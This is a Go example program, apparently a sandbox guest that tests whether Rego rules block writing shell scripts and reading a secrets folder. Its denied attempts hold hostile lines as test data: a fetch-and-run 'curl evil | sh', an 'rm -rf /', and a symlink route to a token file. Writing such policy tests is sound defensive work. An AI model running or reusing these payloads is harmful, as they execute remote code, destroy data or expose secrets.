// Command rego-narrowing is the guest of the rego-narrowing example. Its
// manifest mounts /work read-write and adds Rego rules (rules/narrow.rego)
// that forbid writing *.sh files and reading anything under a secrets/
// folder. The guest tries allowed and forbidden things and prints what each
// attempt got: "ok", or the error (EACCES for a denial).
//
// Exit status: 0 when every attempt had the expected outcome, 1 otherwise
// (a line starting with UNEXPECTED says which).
//
// Build: GOOS=wasip1 GOARCH=wasm go build -o app.wasm . (or
// scripts/build-examples.sh).
package main

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"syscall"
)

var failed bool

// try runs one attempt and prints its outcome; wantDenied says whether the
// policy must refuse it (EACCES, the manifest's on_deny errno).
func try(what string, wantDenied bool, f func() (string, error)) {
	detail, err := f()
	switch {
	case err == nil && !wantDenied:
		fmt.Printf("%-52s ok%s\n", what, detail)
	case errors.Is(err, syscall.EACCES) && wantDenied:
		fmt.Printf("%-52s denied: EACCES\n", what)
	default:
		failed = true
		want := "ok"
		if wantDenied {
			want = "EACCES"
		}
		fmt.Printf("%-52s UNEXPECTED: got %v, want %s\n", what, errString(err), want)
	}
}

func errString(err error) string {
	if err == nil {
		return "success"
	}
	return err.Error()
}

func main() {
	// Leftovers of an earlier run; removing them is allowed.
	for _, p := range []string{"/work/out/report.txt", "/work/out/token-link"} {
		if err := os.Remove(p); err != nil && !errors.Is(err, fs.ErrNotExist) {
			fmt.Println("cleanup:", err)
		}
	}

	try("read /work/notes/todo.txt", false, func() (string, error) {
		b, err := os.ReadFile("/work/notes/todo.txt")
		return fmt.Sprintf(" (%d bytes)", len(b)), err
	})
	try("read /work/scripts/build.sh", false, func() (string, error) {
		b, err := os.ReadFile("/work/scripts/build.sh")
		return fmt.Sprintf(" (%d bytes)", len(b)), err
	})
	try("write /work/out/report.txt", false, func() (string, error) {
		return "", os.WriteFile("/work/out/report.txt", []byte("all good\n"), 0o644)
	})

	// Rule 1: no *.sh file may be written, under any name.
	try("write /work/out/deploy.sh (new file)", true, func() (string, error) {
		return "", os.WriteFile("/work/out/deploy.sh", []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	})
	try("overwrite /work/scripts/build.sh", true, func() (string, error) {
		return "", os.WriteFile("/work/scripts/build.sh", []byte("#!/bin/sh\nrm -rf /\n"), 0o755)
	})
	try("rename /work/out/report.txt -> report.sh", true, func() (string, error) {
		return "", os.Rename("/work/out/report.txt", "/work/out/report.sh")
	})

	// Rule 2: nothing under secrets/ may be read, directly or through a
	// symbolic link: the guard decides on the path the link resolves to.
	try("read /work/secrets/token.txt", true, func() (string, error) {
		_, err := os.ReadFile("/work/secrets/token.txt")
		return "", err
	})
	try("list /work/secrets", true, func() (string, error) {
		_, err := os.ReadDir("/work/secrets")
		return "", err
	})
	try("symlink /work/out/token-link -> ../secrets/token.txt", false, func() (string, error) {
		return "", os.Symlink("../secrets/token.txt", "/work/out/token-link")
	})
	try("read /work/out/token-link", true, func() (string, error) {
		_, err := os.ReadFile("/work/out/token-link")
		return "", err
	})

	if failed {
		os.Exit(1)
	}
}
